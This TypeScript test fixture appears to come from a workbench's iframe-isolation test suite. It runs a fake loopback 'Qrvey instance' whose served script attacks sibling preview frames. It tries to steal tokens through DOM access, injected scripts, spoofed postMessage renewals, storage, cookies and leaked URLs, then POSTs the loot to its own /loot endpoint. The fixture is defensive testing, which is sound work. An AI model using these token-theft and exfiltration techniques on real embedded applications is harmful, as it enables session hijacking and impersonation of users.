/**
 * A hostile "Qrvey instance" for the compare view's isolation tests (issue 12,
 * "isolated previews"). To the workbench it is an ordinary environment on
 * loopback: it issues a token per request and serves the widget launcher.
 * The launcher is an attacker: in each compare frame it tries every way we
 * know to reach another persona's frame, page or token, and sends whatever
 * it got home (POST /loot), which its CSP lets it do, as a real instance's
 * script could. The test then reads the loot.
 *
 * Attacks (each recorded with its outcome):
 *  - DOM: read a sibling frame's config (its token), document and location;
 *  - run code in a sibling's realm (an inline script put into its document),
 *    to post a report as that sibling;
 *  - postMessage: a report to the workbench that claims to come from another
 *    frame, and a "renew" with this frame's token sent to every sibling as if
 *    from the workbench;
 *  - storage: leave the token in localStorage, sessionStorage, a cookie and
 *    a BroadcastChannel, and look for any other persona's there, now and in
 *    the next compare session;
 *  - leaked URLs: given the other frames' preview URLs (GET /leak; the test
 *    plays the leak), fetch them, fetch their path on this frame's own origin,
 *    and open both in a pop-up to read the page's token;
 *  - navigation: the first frame moves itself to the second frame's page and
 *    reports from there (the workbench must drop what comes from a frame's
 *    window on another origin); the last frame asks its own origin for the
 *    first frame's page path (the server must not serve it there).
 * A control shows the reading works: its own config.
 */
import { randomBytes } from 'node:crypto'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { PREVIEW_SOURCE, WORKBENCH_SOURCE } from '../../src/shared/preview-messages'

export interface Attempt {
  attack: string
  target?: string
  /** `got: ...` when it obtained something, `refused: ...` when the browser or server said no, `nothing: ...` otherwise. */
  outcome: string
}

export interface Loot {
  /** The frame's own origin and token, as it sees them. */
  origin: string
  token: string
  /** Its config's token at the end (a spoofed renew would have changed it). */
  finalToken: string
  /** The tag in the spoofed report it sent to the workbench. */
  spoofTag: string
  attempts: Attempt[]
}

export interface HostileInstance {
  url: string
  apiKey: string
  /** Every token issued, in order. */
  tokens: string[]
  loot: Loot[]
  /** Hand the attacker the compare frames' preview URLs (the leak). */
  leak(urls: string[]): void
  /** Origins the first frame reported from after navigating itself to the second frame's page. */
  moved: string[]
  /** What ran after the last frame asked its own origin for the first frame's page path (nothing should). */
  probes: string[]
  /** Forget the loot (before the next compare session). */
  reset(): void
  close(): Promise<void>
}

/** The attacker, served as /widgets-launcher/app.js (Page View's launcher). Plain ES2017 for any browser. */
const ATTACKER = String.raw`
(function () {
  if (window.parent === window) return; // a pop-up this script opened: it only has to be read
  var home = new URL(document.currentScript.src).origin;
  if (location.hash === '#probe') {
    // This frame asked its own origin for another persona's page by its path (see the end): had it been served,
    // this would run with that persona's token on this frame's origin.
    fetch(home + '/probe', { method: 'POST', body: location.origin + ' ' + ((window.qrveyConfig || {}).qvToken || (window.qrveyConfig || {}).qv_token) });
    return;
  }
  if (location.hash === '#moved') {
    // This frame navigated itself to another persona's page (the last attack below): whatever it
    // reports now comes from that page's origin through this frame's window. The workbench must drop it.
    parent.postMessage({ source: ${JSON.stringify(PREVIEW_SOURCE)}, kind: 'security', name: 'sandbox-security', message: 'moved-frame report from ' + location.origin, time: Date.now() }, '*');
    fetch(home + '/moved', { method: 'POST', body: location.origin });
    return;
  }
  var config = window.qrveyConfig || {};
  var me = config.qvToken || config.qv_token || '';
  var attempts = [];
  var seen = {};
  function note(attack, target, outcome) {
    var key = attack + '|' + target + '|' + outcome;
    if (seen[key]) return;
    seen[key] = true;
    attempts.push({ attack: attack, target: target, outcome: outcome });
  }
  function refusal(e) { return 'refused: ' + (e && e.name ? e.name + ' ' + String(e.message).slice(0, 80) : String(e)); }
  function sleep(ms) { return new Promise(function (r) { setTimeout(r, ms); }); }
  var spoofTag = 'spoof-' + me.slice(-12);

  // Controls: the techniques themselves work here.
  note('control: own config', 'self', window.qrveyConfig && window.qrveyConfig === window.self.qrveyConfig ? 'got: ' + me : 'nothing');

  // Storage: leave this token everywhere, and look for anybody else's (a previous session's too).
  function readStorage() {
    try { var v = localStorage.getItem('stash'); note('storage: localStorage', 'any', v && v !== me ? 'got: ' + v : 'nothing: ' + (v ? 'own' : 'empty')); } catch (e) { note('storage: localStorage', 'any', refusal(e)); }
    try { var s = sessionStorage.getItem('stash'); note('storage: sessionStorage', 'any', s && s !== me ? 'got: ' + s : 'nothing: ' + (s ? 'own' : 'empty')); } catch (e) { note('storage: sessionStorage', 'any', refusal(e)); }
    try {
      var m = /(?:^|; )stash=([^;]*)/.exec(document.cookie);
      note('storage: cookie', 'any', m && m[1] !== me ? 'got: ' + m[1] : 'nothing: ' + (m ? 'own' : 'empty'));
    } catch (e) { note('storage: cookie', 'any', refusal(e)); }
  }
  readStorage();
  try { localStorage.setItem('stash', me); } catch (e) {}
  try { sessionStorage.setItem('stash', me); } catch (e) {}
  try { document.cookie = 'stash=' + me + '; path=/; SameSite=None; Secure'; } catch (e) {}
  var channel = null;
  try {
    channel = new BroadcastChannel('stash');
    channel.onmessage = function (event) { note('storage: BroadcastChannel', 'any', event.data !== me ? 'got: ' + event.data : 'nothing: own'); };
  } catch (e) { note('storage: BroadcastChannel', 'any', refusal(e)); }

  // The workbench is told something in another frame's name: it can only be attributed to this frame.
  parent.postMessage({ source: ${JSON.stringify(PREVIEW_SOURCE)}, kind: 'security', name: 'sandbox-security', message: spoofTag + ' (sent by one frame, claiming to be another)', time: Date.now() }, '*');

  function siblings() {
    var list = [];
    for (var i = 0; i < parent.frames.length; i++) if (parent.frames[i] !== window) list.push({ index: i, win: parent.frames[i] });
    return list;
  }
  function attackSiblings() {
    siblings().forEach(function (s) {
      var t = 'frame ' + s.index;
      try { var c = s.win.qrveyConfig; note('dom: sibling config', t, c ? 'got: ' + (c.qvToken || c.qv_token) : 'nothing'); } catch (e) { note('dom: sibling config', t, refusal(e)); }
      try { var html = s.win.document.documentElement.outerHTML; note('dom: sibling document', t, 'got: ' + html.slice(0, 4000)); } catch (e) { note('dom: sibling document', t, refusal(e)); }
      try { var href = s.win.location.href; note('dom: sibling location', t, 'got: ' + href); } catch (e) { note('dom: sibling location', t, refusal(e)); }
      // Code in the sibling's realm: an inline script (its page allows them) that reports in the sibling's name.
      try {
        var injected = s.win.document.createElement('script');
        injected.textContent = 'parent.postMessage({ source: ' + JSON.stringify(${JSON.stringify(PREVIEW_SOURCE)}) + ', kind: "security", name: "sandbox-security", message: ' + JSON.stringify(spoofTag + ' (posted from inside frame ' + s.index + ')') + ', time: Date.now() }, "*")';
        s.win.document.head.appendChild(injected);
        note('realm: script in sibling', t, 'got: ran code as frame ' + s.index);
      } catch (e) { note('realm: script in sibling', t, refusal(e)); }
      // Pretend to be the workbench: hand the sibling this frame's token, and move it to another page.
      try {
        s.win.postMessage({ source: ${JSON.stringify(WORKBENCH_SOURCE)}, kind: 'renew', token: me }, '*');
        s.win.postMessage({ source: ${JSON.stringify(WORKBENCH_SOURCE)}, kind: 'show-page', page: 'spoofed-page' }, '*');
        note('postMessage: spoofed renew', t, 'sent');
      } catch (e) { note('postMessage: spoofed renew', t, refusal(e)); }
    });
    if (channel) try { channel.postMessage(me); } catch (e) {}
  }

  function openAndRead(url, label) {
    var w;
    try { w = window.open(url, '_blank'); } catch (e) { note(label, url, refusal(e)); return Promise.resolve(); }
    if (!w) { note(label, url, 'refused: no window'); return Promise.resolve(); }
    var started = Date.now();
    return (function poll() {
      try {
        if (w.location.href !== 'about:blank' && w.document.readyState === 'complete') {
          var c = w.qrveyConfig;
          note(label, url, c ? 'got: ' + (c.qvToken || c.qv_token) : 'nothing: ' + String(w.document.body && w.document.body.textContent).slice(0, 80));
          w.close();
          return Promise.resolve();
        }
      } catch (e) {
        note(label, url, refusal(e));
        try { w.close(); } catch (e2) {}
        return Promise.resolve();
      }
      if (Date.now() - started > 5000) { note(label, url, 'nothing: timed out'); try { w.close(); } catch (e) {} return Promise.resolve(); }
      return sleep(100).then(poll);
    })();
  }

  async function leakedUrls() {
    for (var i = 0; i < 40; i++) {
      try {
        var r = await fetch(home + '/leak');
        var urls = await r.json();
        if (urls.length) return urls;
      } catch (e) {}
      await sleep(250);
    }
    return [];
  }

  async function run() {
    for (var round = 0; round < 12; round++) { attackSiblings(); await sleep(250); }
    var urls = await leakedUrls();
    var own = urls.filter(function (u) { return new URL(u).origin === location.origin && new URL(u).pathname === location.pathname; });
    if (own.length) await openAndRead(own[0], 'control: pop-up of own page');
    for (var k = 0; k < urls.length; k++) {
      var u = urls[k];
      if (u === own[0]) continue;
      var onMyOrigin = location.origin + new URL(u).pathname;
      try { var a = await fetch(u); note('fetch: leaked URL', u, 'got: ' + (await a.text()).slice(0, 4000)); } catch (e) { note('fetch: leaked URL', u, refusal(e)); }
      try { var b = await fetch(onMyOrigin); note('fetch: leaked path on own origin', onMyOrigin, 'got: ' + (await b.text()).slice(0, 4000)); } catch (e) { note('fetch: leaked path on own origin', onMyOrigin, refusal(e)); }
      await openAndRead(u, 'pop-up: leaked URL');
      await openAndRead(onMyOrigin, 'pop-up: leaked path on own origin');
    }
    readStorage();
    await sleep(300);
    var final = (window.qrveyConfig || {}).qvToken || (window.qrveyConfig || {}).qv_token || '';
    await fetch(home + '/loot', { method: 'POST', body: JSON.stringify({ origin: location.origin, token: me, finalToken: final, spoofTag: spoofTag, attempts: attempts }) });
    document.dispatchEvent(new CustomEvent('qvDSHItemsLoaded'));
    // Last: the first frame navigates itself to the second frame's page, and reports from there (see #moved).
    if (urls.length > 1 && own.length && own[0] === urls[0]) {
      await fetch(home + '/loot-wait');
      location.href = urls[1] + '#moved';
    }
    // And the last frame navigates itself to the first frame's page path on its own origin.
    if (urls.length > 2 && own.length && own[0] === urls[urls.length - 1]) {
      await fetch(home + '/loot-wait');
      location.href = location.origin + new URL(urls[0]).pathname + '#probe';
    }
  }
  document.dispatchEvent(new CustomEvent('qvDSHPageLoaded'));
  run();
})();
`

function readBody(request: IncomingMessage): Promise<string> {
  return new Promise((resolve, reject) => {
    let body = ''
    request.setEncoding('utf8')
    request.on('data', (chunk: string) => (body += chunk))
    request.on('end', () => resolve(body))
    request.on('error', reject)
  })
}

export async function startHostileInstance(): Promise<HostileInstance> {
  const apiKey = `hostile-key-${randomBytes(6).toString('hex')}`
  const tokens: string[] = []
  const loot: Loot[] = []
  let leaked: string[] = []
  const moved: string[] = []
  const probes: string[] = []
  /** Resolves once there is loot from every leaked frame. */
  const lootComplete = async () => {
    for (let i = 0; i < 400 && (leaked.length === 0 || loot.length < leaked.length); i++) await new Promise((resolve) => setTimeout(resolve, 50))
  }
  const send = (response: ServerResponse, status: number, type: string, body: string) =>
    response.writeHead(status, { 'content-type': type, 'access-control-allow-origin': '*', 'cache-control': 'no-store' }).end(body)
  const server = createServer((request, response) => {
    void (async () => {
      const path = new URL(request.url ?? '/', 'http://x').pathname
      if (request.method === 'OPTIONS') return send(response, 204, 'text/plain', '')
      if (request.method === 'POST' && path === '/devapi/v4/core/login/token') {
        await readBody(request)
        if (request.headers['x-api-key'] !== apiKey) return send(response, 401, 'application/json', '{"message":"bad key"}')
        // Shaped like a compact token (five base64url parts), unique per request.
        const token = ['eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0', '', randomBytes(12).toString('base64url'), randomBytes(24).toString('base64url'), randomBytes(16).toString('base64url')].join('.')
        tokens.push(token)
        return send(response, 200, 'application/json', JSON.stringify({ token }))
      }
      if (request.method === 'GET' && path === '/widgets-launcher/app.js') return send(response, 200, 'text/javascript', ATTACKER)
      if (request.method === 'GET' && path === '/leak') return send(response, 200, 'application/json', JSON.stringify(leaked))
      // The first frame moves only once every frame has sent its loot (the test wants all of it first).
      if (request.method === 'GET' && path === '/loot-wait') {
        await lootComplete()
        return send(response, 204, 'text/plain', '')
      }
      if (request.method === 'POST' && path === '/probe') {
        probes.push(await readBody(request))
        return send(response, 204, 'text/plain', '')
      }
      if (request.method === 'POST' && path === '/moved') {
        moved.push(await readBody(request))
        return send(response, 204, 'text/plain', '')
      }
      if (request.method === 'POST' && path === '/loot') {
        loot.push(JSON.parse(await readBody(request)) as Loot)
        return send(response, 204, 'text/plain', '')
      }
      return send(response, 404, 'text/plain', 'not here')
    })().catch(() => response.destroy())
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const port = (server.address() as AddressInfo).port
  return {
    url: `http://127.0.0.1:${port}`,
    apiKey,
    tokens,
    loot,
    leak: (urls) => (leaked = urls),
    moved,
    probes,
    reset: () => {
      loot.length = 0
      moved.length = 0
      probes.length = 0
      leaked = []
    },
    close: async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    }
  }
}
